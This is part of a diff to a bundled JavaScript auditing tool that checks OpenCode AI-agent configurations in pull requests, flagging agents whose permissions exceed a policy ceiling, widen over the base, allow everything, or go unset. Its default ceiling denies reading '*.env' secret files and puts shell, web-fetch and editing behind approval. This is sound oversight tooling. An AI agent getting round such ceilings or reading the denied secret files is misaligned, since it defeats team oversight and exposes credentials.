+    for (const { key, node } of entriesOf(get(now, 'agent'))) {
+        const was = get(old, key);
+        if (was !== undefined)
+            yield* changeOf(`the agent ${quoteName(key)}`, get(was, 'model'), get(node, 'model'));
+    }
+}
+function* changeOf(whose, before, now) {
+    const [from, to] = [modelOf(before), modelOf(now)];
+    if (from === to)
+        return;
+    if (now !== undefined)
+        yield { whose, from, to, place: now.place };
+    else if (before !== undefined)
+        yield { whose, from, to, place: { ...before.place, line: 0 } };
+}
+function modelOf(node) {
+    if (node === undefined)
+        return 'the default';
+    return quoteName(stringOf(node) ?? JSON.stringify(toValue(node)));
+}
+function model_changed_hitFor({ whose, from, to, place }, folder) {
+    const where = folder === '' ? '' : ` below ${quoteName(folder)}`;
+    const message = `For ${whose}${where}, ${to} answers in place of ${from}: another provider may read the prompts, and another model may keep to them less.`;
+    return { path: place.path, line: place.line, message, scope: `${whose} ${from} ${to}`, remedy: model_changed_REMEDY };
+}
+const model_changed_REMEDY = 'Check that the provider may have the code, and run the evaluations of the agent with the new model before merging.';
+
+;// CONCATENATED MODULE: ./build/policy/default-ceiling.js
+/**
+ * What an agent that a team shares may do at most, unless the policy says otherwise; the lowest layer of every
+ * ceiling. `*` is for what has no key of its own: the tools of MCP servers, plugins and the repository.
+ */
+const DEFAULT_CEILING = {
+    '*': 'ask',
+    read: { '*': 'allow', '*.env': 'deny', '*.env.*': 'deny', '*.env.example': 'allow' },
+    glob: 'allow',
+    grep: 'allow',
+    lsp: 'allow',
+    list: 'allow',
+    todowrite: 'allow',
+    skill: 'allow',
+    question: 'allow',
+    edit: 'ask',
+    bash: 'ask',
+    webfetch: 'ask',
+    websearch: 'ask',
+    external_directory: 'ask',
+    task: 'ask',
+    doom_loop: 'ask',
+};
+
+;// CONCATENATED MODULE: ./build/policy/ceiling.js
+
+
+
+/**
+ * The ceiling of one agent: the default one, then the policy's, then the agent's exception, the later one winning.
+ * Null when the policy sets none for it. `today` is YYYY-MM-DD: an exception that has expired is none.
+ */
+function ceilingOf(policy, agent, today) {
+    const entry = Object.hasOwn(policy.agents, agent) ? policy.agents[agent] : undefined;
+    const own = entry !== undefined && isCurrent(entry, today) ? entry.ceiling : undefined;
+    if (policy.ceiling === undefined && own === undefined)
+        return null;
+    return [
+        ...ceiling_DEFAULT_RULES,
+        ...ceiling_rulesOf(policy.ceiling ?? {}, 'policy', (way) => policy.lineOf(['ceiling', ...way])),
+        ...ceiling_rulesOf(own ?? {}, 'agent', (way) => policy.lineOf(['agents', agent, 'ceiling', ...way])),
+    ];
+}
+function ceiling_rulesOf(shape, from, lineOf) {
+    if (typeof shape === 'string') {
+        return [{ permission: '*', pattern: '*', action: shape, from, line: lineOf([]) }];
+    }
+    return Object.entries(shape).flatMap(([permission, value]) => {
+        const patterns = typeof value === 'string' ? { '*': value } : value;
+        return Object.entries(patterns).map(([pattern, action]) => {
+            const way = typeof value === 'string' ? [permission] : [permission, pattern];
+            return { permission, pattern: expandHome(pattern), action, from, line: lineOf(way) };
+        });
+    });
+}
+/** What holds for an agent to which the policy gives no ceiling, for those who only want to compare. */
+const ceiling_DEFAULT_RULES = ceiling_rulesOf(DEFAULT_CEILING, 'default', () => 0);
+
+;// CONCATENATED MODULE: ./build/opencode/example-texts.js
+const WHOLE = {
+    bash: 'any-command',
+    read: 'any-file.txt',
+    edit: 'any-file.txt',
+    external_directory: '/any-folder/*',
+    webfetch: 'https://example.com/',
+    task: 'any-agent',
+    skill: 'any-skill',
+    doom_loop: 'any-tool',
+};
+/** What people would name as an example of a pattern of this key; the first that fits is taken. */
+function examplesOf(key, pattern) {
+    const text = pattern.replaceAll(/\*+/g, '*').replaceAll('?', 'x');
+    if (text === '*')
+        return [(Object.hasOwn(WHOLE, key) ? WHOLE[key] : undefined) ?? 'anything', 'anything', ''];
+    // `.env` for `*.env`, `.env.local` for `*.env.*`, `npm publish` for `npm publish*`, `git anything` for `git *`.
+    const short = text.replace(/^\*(?=\.)/, '').replace(/(?<=[\w"')])\*$/, '');
+    return [short.replace(/\.\*$/, '.local'), short, text].map((one) => one.replaceAll('*', 'anything'));
+}
+
+;// CONCATENATED MODULE: ./build/opencode/wildcard-states.js
+/** Reads patterns as wildcard.ts does: `*`, `?`, an optional ` *` at the end, `\` as `/`. */
+function wildcardStates(patterns) {
+    const literals = new Map();
+    const masks = { parts: [], ends: [], forever: [] };
+    let [first, any, stars, offset] = [0n, 0n, 0n, 0n];
+    for (const pattern of patterns) {
+        const raw = pattern.replaceAll('\\', '/');
+        const text = raw.replaceAll(/\*+/g, '*');
+        const length = BigInt(text.length);
+        const bit = (position) => 1n << (offset + BigInt(position));
+        for (const [position, character] of text.split('').entries()) {
+            if (character === '*')
+                stars |= bit(position);
+            else if (character === '?')
+                any |= bit(position);
+            else
+                literals.set(character, (literals.get(character) ?? 0n) | bit(position));
+        }
+        first |= bit(0);
+        masks.parts.push(((1n << (length + 1n)) - 1n) << offset);
+        masks.ends.push(bit(length) | (raw.endsWith(' *') ? bit(length - 2n) : 0n));
+        masks.forever.push(text.endsWith('*') ? bit(length - 1n) : 0n);
+        offset += length + 1n;
+    }
+    const enter = (state) => state | ((state & stars) << 1n);
+    const step = (state, character) => enter(((state & ((literals.get(character) ?? 0n) | any)) << 1n) | (state & stars));
+    return { alphabet: [unnamed(literals), ...literals.keys()], step, ...masks, first: enter(first) };
+}
+function unnamed(literals) {
+    const readable = 'xyzabcdefghijklmnopqrstuvw0123456789'
+        .split('')
+        .find((character) => !literals.has(character));
+    if (readable !== undefined)
+        return readable;
+    let code = 0x4e00;
+    while (literals.has(String.fromCharCode(code)))
+        code += 1;
+    return String.fromCharCode(code);
+}
+
+;// CONCATENATED MODULE: ./build/opencode/find-text.js
+
+
+const PATIENCE = 2_000;
+const MAX_POSITIONS = 6_000;
+/**
+ * Finds a text that one pattern matches, others do not, and of which a list of patterns says what is asked for. Tries
+ * the texts that people would name first; then walks all texts at once, so that the answer is exact.
+ */
+function findText(asked) {
+    if (asked.outside.some(matchesAll))
+        return 'none';
+    const question = withoutOverruled(asked);
+    const { inside, outside, judged, accept } = question;
+    if (![-1, ...judged.keys()].some(accept))
+        return 'none';
+    const example = examplesFor(question).find((text) => fits(question, text));
+    if (example !== undefined)
+        return { text: example };
+    const patterns = [inside, ...outside, ...judged];
+    if (patterns.reduce((sum, pattern) => sum + pattern.length + 1, 0) > MAX_POSITIONS)
+        return 'undecided';
+    return walk(question, wildcardStates(patterns));
+}
+/** Judged patterns that a later one for everything overrules have no say. */
+function withoutOverruled(question) {
+    const from = question.judged.findLastIndex(matchesAll);
+    if (from < 0)
+        return question;
+    const accept = (last) => last >= 0 && question.accept(last + from);
+    return { ...question, judged: question.judged.slice(from), accept };
+}
+function fits({ inside, outside, judged, accept }, text) {
+    if (!matches(inside, text) || outside.some((pattern) => matches(pattern, text)))
+        return false;
+    return accept(judged.findLastIndex((pattern) => matches(pattern, text)));
+}
+/** Of the pattern itself, and of the judged patterns where they are the narrower ones. */
+function examplesFor({ inside, judged, examplesOf }) {
+    if (examplesOf === undefined)
+        return [];
+    return [inside, ...judged.slice(-40).filter((pattern) => !matchesAll(pattern))].flatMap(examplesOf);
+}
+function walk({ outside, accept, patience = PATIENCE }, machine) {
+    const steps = [{ state: machine.first, from: -1, character: '' }];
+    const seen = new Set();
+    for (let at = 0; at < steps.length; at += 1) {
+        const { state } = steps[at] ?? { state: 0n };
+        if (isAccepted(machine, state, outside.length, accept))
+            return { text: spell(steps, at) };
+        if (seen.size > patience)
+            return 'undecided';
+        for (const character of machine.alphabet) {
+            const next = machine.step(state, character);
+            if (seen.has(next) || isLost(machine, next, outside.length))
+                continue;
+            seen.add(next);
+            steps.push({ state: next, from: at, character });
+        }
+    }
+    return 'none';
+}
+/** Patterns are numbered as the machine was given them: inside, outside, judged. */
+function isAccepted({ ends }, state, outside, accept) {
+    const isMatched = (pattern) => (state & (ends[pattern] ?? 0n)) !== 0n;
+    if (!isMatched(0))
+        return false;
+    for (let pattern = 1; pattern <= outside; pattern += 1)
+        if (isMatched(pattern))
+            return false;
+    let last = ends.length - 1;
+    while (last > outside && !isMatched(last))
+        last -= 1;
+    return accept(last - outside - 1);
+}
+/** No text that goes on from here can be inside, or every one is outside. */
+function isLost({ parts, forever }, state, outside) {
+    if ((state & (parts[0] ?? 0n)) === 0n)
+        return true;
+    for (let pattern = 1; pattern <= outside; pattern += 1) {
+        if ((state & (forever[pattern] ?? 0n)) !== 0n)
+            return true;
+    }
+    return false;
+}
+function spell(steps, at) {
+    const characters = [];
+    for (let index = at; index > 0; index = steps[index]?.from ?? 0) {
+        characters.push(steps[index]?.character ?? '');
+    }
+    return characters.reverse().join('');
+}
+
+;// CONCATENATED MODULE: ./build/policy/excess.js
+
+
+
+
+/** After so many rules that could not be compared, the rest gets less patience: somebody wrote them to be slow. */
+const HARD = 20;
+const ORDINARY = 2_000;
+const excess_MANY = 600;
+/**
+ * Finds all that rules allow, or ask for, under one permission key beyond a ceiling: rule by rule, and exactly. It
+ * remembers its answers, because agents that are written alike are compared alike.
+ */
+function excessFinder() {
+    const known = new Map();
+    const limitsFor = limitFinder();
+    let hard = 0;
+    return (rules, ceiling, key) => {
+        const all = rules.filter((rule) => matches(rule.permission, key));
+        // What stands before a rule for everything decides nothing.
+        const own = all.slice(Math.max(0, all.findLastIndex(({ pattern }) => matchesAll(pattern))));
+        const limits = limitsFor(ceiling, key);
+        const shape = `${limits.shape} ${own.map(shapeOf).join('')}`;
+        const before = known.get(shape);
+        const patience = hard < HARD ? ORDINARY : 50;
+        const answers = before ?? findRequests({ own, limits: limits.rules, key, patience });
+        if (before === undefined)
+            hard += answers.filter((answer) => answer === 'undecided').length;
+        known.set(shape, answers);
+        return own.flatMap((rule, index) => {
+            const answer = answers[index] ?? 'none';
+            if (answer === 'none')
+                return [];
+            const request = answer === 'undecided' ? null : answer.text;
+            const limit = limits.rules.findLast((one) => request === null || matches(one.pattern, request)) ?? null;
+            return [{ key, rule, request, granted: limit?.action ?? 'ask', limit }];
+        });
+    };
+}
+/** The rules of a ceiling for a key. Most agents share one ceiling. */
+function limitFinder() {
+    const known = new Map();
+    return (ceiling, key) => {
+        const byKey = known.get(ceiling) ?? new Map();
+        known.set(ceiling, byKey);
+        const before = byKey.get(key);
+        if (before !== undefined)
+            return before;
+        const rules = ceiling.filter((rule) => matches(rule.permission, key));
+        const limits = { rules, shape: `${key.length} ${key}${rules.map(shapeOf).join('')}` };
+        byKey.set(key, limits);
+        return limits;
+    };
+}
+/** For each rule a request that it decides, and for which the ceiling is narrower. */
+function findRequests({ own, limits, key, patience }) {
+    const lowest = Math.min(excess_rankOf('ask'), ...limits.map(({ action }) => excess_rankOf(action)));
+    const patterns = own.map(({ pattern }) => pattern);
+    const lastWide = own.findLastIndex(({ action }) => excess_rankOf(action) > lowest);
+    return own.map(({ pattern, action }, index) => {
+        if (excess_rankOf(action) <= lowest)
+            return 'none';
+        // Nobody writes so many by hand: one finding about the last of them, and no hour of work.
+        if (own.length > excess_MANY)
+            return index === lastWide ? 'undecided' : 'none';
+        return findText({
+            inside: pattern,
+            outside: patterns.slice(index + 1),
+            judged: limits.map((limit) => limit.pattern),
+            accept: (last) => excess_rankOf(action) > excess_rankOf(limits[last]?.action ?? 'ask'),
+            patience,
+            examplesOf: (one) => examplesOf(key, one),
+        });
+    });
+}
+/** Allow is the widest. A person who is asked may say yes, so that ask is wider than deny. */
+function excess_rankOf(action) {
+    return ACTIONS.length - ACTIONS.indexOf(action);
+}
+/** Foreign patterns may hold anything, so that their length is what ends them. */
+function shapeOf({ pattern, action }) {
+    return `${action} ${pattern.length} ${pattern}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/keys-of.js
+
+
+
+
+/** OpenCode's own keys, the tools of the servers that are set up, and every other tool that the agent's rules name. */
+function keys_of_keysOf({ config }, agent) {
+    const keys = new Map();
+    for (const key of MATRIX_KEYS)
+        if (!DEAD_KEYS.has(key))
+            keys.set(key, key);
+    for (const prefix of serverPrefixes(config))
+        keys.set(unlistedTool(prefix), `${prefix}*`);
+    for (const { permission } of agent.rules.filter(namesTool)) {
+        const key = permission.replaceAll(/\*+/g, 'any-tool').replaceAll('?', 'x');
+        if (!keys.has(key))
+            keys.set(key, permission);
+    }
+    return [...keys].map(([key, shown]) => ({ key, shown }));
+}
+function namesTool({ permission, origin }) {
+    return origin !== null && !matchesAll(permission) && !DEAD_KEYS.has(permission);
+}
+
+;// CONCATENATED MODULE: ./build/audit/above-ceiling.js
+
+
+
+
+
+/**
+ * Each place at which an agent has more than its ceiling. What an agent had at the base already and what it has
+ * gained stand apart, so that taking something away never looks new, and adding something always does.
+ */
+function placesAbove(context) {
+    const find = finderFor(context);
+    const places = new Map();
+    for (const { setUp, agent } of agentsOf(context)) {
+        const before = agentBefore(setUp, agent, context);
+        const old = before === null ? null : new Set(find(before.setUp, before.agent).map(above_ceiling_idOf));
+        for (const item of find(setUp, agent)) {
+            const spot = spotOf(agent, item.rule);
+            if (spot === null)
+                continue;
+            const isNew = old !== null && !old.has(above_ceiling_idOf(item));
+            const key = JSON.stringify([spot, isNew]);
+            const place = places.get(key) ?? { spot, items: [], agents: [], isNew };
+            if (!place.items.some((other) => above_ceiling_idOf(other) === above_ceiling_idOf(item)))
+                place.items.push(item);
+            if (!place.agents.includes(agent.name))
+                place.agents.push(agent.name);
+            places.set(key, place);
+        }
+    }
+    return [...places.values()];
+}
+/** The key, the rule that decides and what it says, wherever it is written. */
+function above_ceiling_idOf({ shown, rule, granted }) {
+    return JSON.stringify([shown, rule.permission, rule.pattern, rule.action, granted]);
+}
+function finderFor({ policy, today }) {
+    const findExcess = excessFinder();
+    const general = ceilingOf({ ...policy, agents: {} }, '', today);
+    return (setUp, agent) => {
+        const hasOwn = Object.hasOwn(policy.agents, agent.name);
+        const ceiling = hasOwn ? ceilingOf(policy, agent.name, today) : general;
+        if (ceiling === null)
+            return [];
+        const rules = agent.rules.filter((rule) => !isOwnFolder(rule));
+        return keys_of_keysOf(setUp, agent).flatMap(({ key, shown }) => findExcess(rules, ceiling, key).map((excess) => ({ ...excess, shown })));
+    };
+}
+/** The same agent at the base: by its name in its folder, or by its file if that was renamed. */
+function agentBefore(setUp, { name, definedAt }, { base, change }) {
+    const was = base?.setUps.find((one) => one.folder === setUp.folder);
+    if (was === undefined)
+        return null;
+    const file = change.files.find(({ status, path }) => status === 'renamed' && path === definedAt?.path);
+    const agent = was.agents.find((one) => one.name === name) ??
+        was.agents.find((one) => file !== undefined && one.definedAt?.path === file.basePath);
+    return agent === undefined ? null : { setUp: was, agent };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/permission-above-ceiling.js
+
+
+
+
+
+
+const permissionAboveCeiling = {
+    id: 'permission-above-ceiling',
+    title: 'More than the ceiling of the policy',
+    summary: 'An agent is allowed more than the ceiling in the policy grants it.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const place of placesAbove(context)) {
+            yield {
+                ...place.spot,
+                ...recognisedBy(place),
+                message: messageFor(place, context.policy.path),
+                remedy: permission_above_ceiling_REMEDY,
+                ...permission_above_ceiling_offerFor(place, context),
+            };
+        }
+    },
+};
+const permission_above_ceiling_REMEDY = 'Set what is named to what the ceiling grants, or narrower; or let the owners of the policy make an exception for the agent there, with a reason.';
+/** A place has one finding for what was there before, and another for exactly what the change adds. */
+function recognisedBy({ spot, items, isNew }) {
+    if (!isNew)
+        return {};
+    const added = `adds ${items.map(above_ceiling_idOf).toSorted().join(' ')}`;
+    if (spot.identity !== undefined)
+        return { identity: `${spot.identity} ${added}` };
+    return { scope: `${spot.scope ?? ''} ${added}` };
+}
+const SHOWN = 6;
+function messageFor({ agents, items, spot, isNew }, policyPath) {
+    const list = items.slice(0, SHOWN).map((item) => permission_above_ceiling_describe(item, policyPath));
+    const more = items.length > SHOWN ? `; and ${items.length - SHOWN} more` : '';
+    const who = nameAgents(agents);
+    const have = `${agents.length === 1 ? 'has' : 'have'}${isNew ? ' now' : ''}`;
+    return `T${who.slice(1)} ${have} more than the ceiling grants: ${list.join('; ')}${more}. ${permission_above_ceiling_reasonFor(items, spot)}`;
+}
+/** `bash "npm publish" is allowed, the ceiling says ask (.github/review-gate.jsonc:4)`. */
+function permission_above_ceiling_describe({ shown, rule, limit, request, granted }, policyPath) {
+    const isWhole = matchesAll(rule.pattern) && (limit === null || matchesAll(limit.pattern));
+    const example = isWhole || request === null ? '' : ` ${quoteName(request)}`;
+    const doubt = request === null ? ' (as far as the patterns can be compared)' : '';
+    const source = limit === null || limit.from === 'default' ? 'the default ceiling' : `${policyPath}:${limit.line}`;
+    return `${shown}${example} is ${DONE[rule.action]}${doubt}, the ceiling says ${granted} (${source})`;
+}
+const DONE = { allow: 'allowed', ask: 'asked for', deny: 'denied' };
+function permission_above_ceiling_reasonFor(items, spot) {
+    const origins = items.map(({ rule }) => rule.origin);
+    if (origins.every((origin) => origin?.path === spot.path && origin.line === spot.line)) {
+        return 'This rule decides it.';
+    }
+    const written = origins.find((origin) => origin !== null);
+    if (written === undefined || written === null)
+        return 'Nothing here limits it, so that it is as by default in OpenCode.';
+    return `Nothing here limits it; ${quoteName(written.path)}, line ${written.line}, does not either.`;
+}
+/** Only where the line speaks of nothing but what is too wide. */
+function permission_above_ceiling_offerFor({ items }, context) {
+    const [item] = items;
+    if (item === undefined || items.length > 1 || !isOwn(item.rule))
+        return {};
+    const { rule, limit, granted } = item;
+    const isWhole = limit === null || matchesAll(limit.pattern) || limit.pattern === rule.pattern;
+    return isWhole && !/[*?]/.test(rule.permission) ? withAction(context, rule, granted) : {};
 }
 
 ;// CONCATENATED MODULE: ./build/audit/rules/permission-allow-all.js
+
 
 
 const permissionAllowAll = {
@@ -24793,36 +29429,383 @@ const permissionAllowAll = {
     confidence: 'high',
     category: 'permissions',
     *check(context) {
-        for (const { rule, agents } of openRules(context)) {
-            const spot = spotOfRule(rule);
-            if (spot !== null)
-                yield { ...spot, message: messageFor(agents), remedy: permission_allow_all_REMEDY };
+        for (const { spot, value, agents } of bySpot(openRules(context))) {
+            const message = `This allows ${nameAgents(agents)} every tool, every MCP server and every folder of the machine, unasked; also what OpenCode asks for by default.`;
+            yield { ...spot, message, remedy: permission_allow_all_REMEDY, ...withAction(context, value, 'ask') };
         }
     },
 };
 const permission_allow_all_REMEDY = 'Name what the agent needs and start from a denial: "*": "deny" first, then the keys that it may use.';
 /** The written rules for every key and pattern that decide at least one key that reaches beyond reading. */
-function openRules(context) {
-    const open = new Map();
+function* openRules(context) {
     for (const { agent } of agentsOf(context)) {
-        for (const key of ['bash', 'edit', 'external_directory']) {
-            const rule = openingRule(agent, key);
-            if (rule === null || !isForEverything(rule))
+        for (const rule of new Set(permission_allow_all_rulesOf(agent)))
+            yield { spot: spotOfRule(rule), agent, value: rule };
+    }
+}
+function permission_allow_all_rulesOf(agent) {
+    return agent.rules.filter((rule) => isShownAsAllowAll(agent, rule));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/permission-missing.js
+
+
+
+
+
+const permissionMissing = {
+    id: 'permission-missing',
+    title: 'No permission for all agents',
+    summary: "A configuration sets no permission, so that agents without one run with OpenCode's defaults.",
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const setUp of context.project.setUps) {
+            const config = configOf(setUp, context);
+            const open = config === null ? [] : openByDefault(setUp);
+            if (config === null || open.length === 0)
                 continue;
-            const names = open.get(rule) ?? [];
-            if (!names.includes(agent.name))
-                names.push(agent.name);
-            open.set(rule, names);
+            const line = config.root?.place.line ?? 1;
+            const message = `Nothing here limits ${nameAgents(open)}: with OpenCode's defaults any command runs, any file is edited and any address is fetched without a question.`;
+            const place = { path: config.path, line, column: 1 };
+            const hit = { path: config.path, line, message, identity: 'no permission', remedy: permission_missing_REMEDY };
+            yield { ...hit, ...permission_missing_offerFor(context, place) };
+        }
+    },
+};
+const LIMITS = '"bash": "ask", "webfetch": "ask", "external_directory": "ask"';
+const permission_missing_REMEDY = `Add a permission for all agents, for example "permission": { ${LIMITS} }, and open single agents where they need it.`;
+/** The configuration of this folder, when neither it nor anything above it sets a permission. */
+function configOf({ folder, config }, { project }) {
+    if (['permission', 'permissions', 'tools'].some((key) => get(config, key) !== undefined))
+        return null;
+    const assets = [...project.assets.values()].filter((asset) => asset.kind === 'config' && asset.root !== null);
+    // A folder below another one that is shown already has nothing of its own to say.
+    if (folder !== '' &&
+        assets.some((asset) => folder.startsWith(asset.folder === '' ? '' : `${asset.folder}/`))) {
+        return null;
+    }
+    return assets.find((asset) => asset.folder === folder) ?? null;
+}
+/** Agents for which neither they nor their file say anything about commands. */
+function openByDefault(setUp) {
+    return setUp.agents
+        .filter((agent) => !(agent.hidden && agent.isBuiltIn) && agent.name !== 'explore' && agent.name !== 'plan')
+        .filter((agent) => isShown(setUp, agent) || agent.isBuiltIn)
+        .filter((agent) => openingRule(agent, 'bash')?.origin === null)
+        .map((agent) => agent.name);
+}
+/** A first line that is a brace alone takes the permission on the next one. */
+function permission_missing_offerFor(context, place) {
+    const line = lineAt(context, place)?.trimEnd();
+    const lines = context.project.assets.get(place.path)?.lines ?? [];
+    const next = lines[place.line] ?? '';
+    const indent = /^(\s+)"/.exec(next)?.[1];
+    if (line !== '{' || indent === undefined)
+        return {};
+    return { suggestion: `{\n${indent}"permission": { ${LIMITS} },` };
+}
+
+;// CONCATENATED MODULE: ./build/audit/meant-key.js
+
+/** Names that other agents' tools have. */
+const ELSEWHERE = new Map([
+    ['shell', 'bash'],
+    ['terminal', 'bash'],
+    ['execute', 'bash'],
+    ['command', 'bash'],
+    ['commands', 'bash'],
+    ['run', 'bash'],
+    ['exec', 'bash'],
+    ['write_file', 'edit'],
+    ['file_write', 'edit'],
+    ['delete', 'edit'],
+    ['read_file', 'read'],
+    ['file_read', 'read'],
+    ['fetch', 'webfetch'],
+    ['network', 'webfetch'],
+    ['search', 'websearch'],
+    ['ls', 'glob'],
+    ['agent', 'task'],
+    ['subagent', 'task'],
+    ['todo', 'todowrite'],
+]);
+/**
+ * Null for a key that may be the name of a tool which is not in the repository: a plugin or a server of the user can
+ * bring it. So a key is only judged when it is clear what it should have been.
+ */
+function meant_key_meantBy(key, known) {
+    if (isCommand(key, known))
+        return under(key, 'bash', 'a shell command');
+    if (key.startsWith('mcp_'))
+        return ofServer(key);
+    if (known.agents.includes(key))
+        return under(key, 'task', 'the name of an agent');
+    if (known.skills.includes(key))
+        return under(key, 'skill', 'the name of a skill');
+    const instead = spelt(key, known.keys);
+    if (instead === null)
+        return null;
+    return { key: instead, why: `it asks for "${instead}"`, remedy: `Write "${instead}" in place of it.` };
+}
+function isCommand(key, { servers }) {
+    return /^\S+ /.test(key) && !servers.some((name) => key.startsWith(name));
+}
+/** The key that is written otherwise, or called otherwise by other agents, or mistyped. */
+function spelt(key, keys) {
+    const plain = key.toLowerCase().replaceAll(/[-_]/g, '');
+    const same = keys.find((name) => name.toLowerCase().replaceAll('_', '') === plain);
+    const found = same ?? ELSEWHERE.get(key.toLowerCase());
+    if (found !== undefined)
+        return found;
+    const near = /^[A-Za-z]{5,}$/.test(key) ? nearest_nearest(key, keys) : null;
+    return isTypo(key, near) ? near : null;
+}
+function ofServer(key) {
+    const [, server = '', tool = ''] = /^mcp_+(.+?)(?:__(.+))?$/.exec(key) ?? [];
+    const name = tool === '' ? '<server>_*' : `${server}_${tool}`;
+    const why = 'it calls the tools of a server by the name of the server, without "mcp"';
+    return { key: tool === '' ? null : name, why, remedy: `Write "${meant_key_short(name)}" in place of it.` };
+}
+function under(key, parent, what) {
+    const why = `it is ${what}, for which OpenCode asks under "${parent}"`;
+    return { key: null, why, remedy: `Move it under "${parent}": { "${meant_key_short(key)}": … }.` };
+}
+/** One letter too many, too few or wrong: more would be another name. */
+function isTypo(key, near) {
+    return near !== null && Math.abs(near.length - key.length) <= 1 && key[0] === near[0];
+}
+function meant_key_short(text) {
+    return text.replaceAll(/[\p{C}\p{Zl}\p{Zp}"`]/gu, '?').slice(0, 60);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/permission-unknown-key.js
+
+
+
+
+
+
+
+
+
+const permissionUnknownKey = {
+    id: 'permission-unknown-key',
+    title: 'A permission key that OpenCode does not know',
+    summary: 'A permission stands under a key that is the name of no tool, and OpenCode ignores it in silence.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        const known = knownNames(context);
+        for (const block of permissionBlocks(context)) {
+            for (const entry of permission_blocks_keysOf(block)) {
+                const meant = isKnown(entry.key, known) ? null : meant_key_meantBy(entry.key, known);
+                if (meant === null)
+                    continue;
+                const { path, line } = entry.place;
+                const message = `${quoteName(entry.key)} ${limits(entry) ? 'limits' : 'allows'} nothing: OpenCode has no tool of this name and ignores it in silence; ${meant.why}.`;
+                const hit = { path, line, message, scope: `${block.way}.${entry.key}`, remedy: meant.remedy };
+                yield {
+                    ...hit,
+                    ...(limits(entry) ? {} : { severity: 'low' }),
+                    ...permission_unknown_key_offerFor(context, block, entry, meant.key),
+                };
+            }
+        }
+    },
+};
+const permission_unknown_key_KEYS = [
+    'read',
+    'edit',
+    'glob',
+    'grep',
+    'bash',
+    'task',
+    'external_directory',
+    'lsp',
+    'skill',
+    'todowrite',
+    'question',
+    'webfetch',
+    'websearch',
+    'doom_loop',
+    'plan_enter',
+    'plan_exit',
+    'workflow_tool_approval',
+    'StructuredOutput',
+];
+function knownNames({ project }) {
+    const assets = [...project.assets.values()];
+    const named = (kind) => assets.filter((asset) => asset.kind === kind).map((asset) => asset.name);
+    const servers = project.setUps.flatMap(({ config }) => serversIn(get(config, 'mcp')).map(({ name }) => name));
+    return {
+        keys: permission_unknown_key_KEYS,
+        tools: named('tool'),
+        skills: named('skill'),
+        agents: project.setUps.flatMap((setUp) => setUp.agents.map((agent) => agent.name)),
+        servers: [...new Set(servers)].map((name) => name.replace(/[^a-zA-Z0-9_-]/g, '_')),
+    };
+}
+/** Keys are patterns themselves; a tool of a file is called like it, or begins with its name. */
+function isKnown(key, { keys, tools, servers }) {
+    if (DEAD_KEYS.has(key) || keys.some((name) => matches(key, name)))
+        return true;
+    return [...tools, ...servers].some((name) => key === name || key.startsWith(`${name}_`));
+}
+function limits({ node }) {
+    const values = node.kind === 'object' ? entriesOf(node).map((inner) => inner.node) : [node];
+    return values.some((value) => booleanOf(value) === false || (actionOf(value) ?? 'allow') !== 'allow');
+}
+function permission_unknown_key_offerFor(context, block, entry, key) {
+    if (key === null || permission_blocks_keysOf(block).some((other) => other.key === key))
+        return {};
+    return withKey(context, entry.place, entry.key, key);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/permission-widened.js
+
+
+
+
+
+const permissionWidened = {
+    id: 'permission-widened',
+    title: 'An agent may do more than before',
+    summary: 'A line of the pull request lets an agent do what the base denied it, or asked about.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const gain of gainsOf(context))
+            yield* permission_widened_hitFor(gain, context);
+    },
+};
+/** What the lines of the change below one key bring, with every agent that gets it. */
+function gainsOf(context) {
+    const gains = new Map();
+    for (const widened of widenedAgents(context)) {
+        for (const widening of widened.widenings ?? []) {
+            const { is: rule } = widening;
+            if (rule === undefined || !isBrought(rule, widened))
+                continue;
+            const gain = gains.get(permission_widened_keyOf(rule)) ?? startGain(widened);
+            gains.set(permission_widened_keyOf(rule), gain);
+            gain.rules.add(rule);
+            gain.agents.add(widened.agent.name);
+            gain.widenings.set(widening.request.words, widening);
         }
     }
-    return open.entries().map(([rule, agents]) => ({ rule, agents }));
+    return gains.values();
 }
-function messageFor(agents) {
-    const who = agents.length === 1 ? 'the agent' : 'the agents';
-    return `This allows ${who} ${quoteNames(agents)} every tool, every MCP server and every folder of the machine, unasked; also what OpenCode asks for by default.`;
+/** The permission key that the rule stands under, for example `agent.deploy.permission.bash`. */
+function permission_widened_keyOf({ origin, way, pattern }) {
+    const key = way.endsWith(`.${pattern}`) ? way.slice(0, -pattern.length - 1) : way;
+    return `${origin?.path ?? ''}\0${key}`;
+}
+function startGain({ before }) {
+    return { rules: new Set(), agents: new Set(), isNew: before === null, widenings: new Map() };
+}
+function permission_widened_hitFor({ rules, agents, isNew, widenings }, context) {
+    const all = [...widenings.values()].toSorted((a, b) => Number(isMinor(a)) - Number(isMinor(b)));
+    const rule = all[0]?.is;
+    const spot = rule === undefined ? null : spotOfRule(rule);
+    if (rule === undefined || spot === null)
+        return [];
+    const names = [...agents];
+    const lines = permission_widened_linesOf(rules) === 1 ? 'this line' : 'these lines';
+    const who = isNew ? `The change brings ${nameAgents(names)}, which` : `With ${lines} ${nameAgents(names)}`;
+    const message = `${who} may use ${wordsFor(all)}: ${standing(all, context)}.`;
+    const identity = [
+        spot.scope ?? '',
+        ...names,
+        ...all.map(({ request, from, to }) => `${request.words} ${from} ${to}`),
+    ];
+    const offer = rules.size === 1 ? permission_widened_offerFor(rule, all, context) : {};
+    return [{ ...spot, message, identity: identity.join('\n'), remedy: permission_widened_REMEDY, ...permission_widened_weightOf(all), ...offer }];
+}
+function permission_widened_linesOf(rules) {
+    return new Set([...rules].map(({ origin }) => origin?.line)).size;
+}
+const permission_widened_REMEDY = 'Allow only the requests that the agent needs, by their patterns; or have an owner accept this finding in the policy, with a reason.';
+function permission_widened_weightOf(widenings) {
+    return widenings.every(isMinor) ? { severity: 'medium' } : {};
+}
+/** The action that the same rule had before, where that is all that has changed. */
+function permission_widened_offerFor(rule, widenings, context) {
+    const was = widenings[0]?.was;
+    const isSame = was?.origin && was.permission === rule.permission && was.pattern === rule.pattern;
+    return isSame && widenings.every((one) => one.was === was) ? withAction(context, rule, was.action) : {};
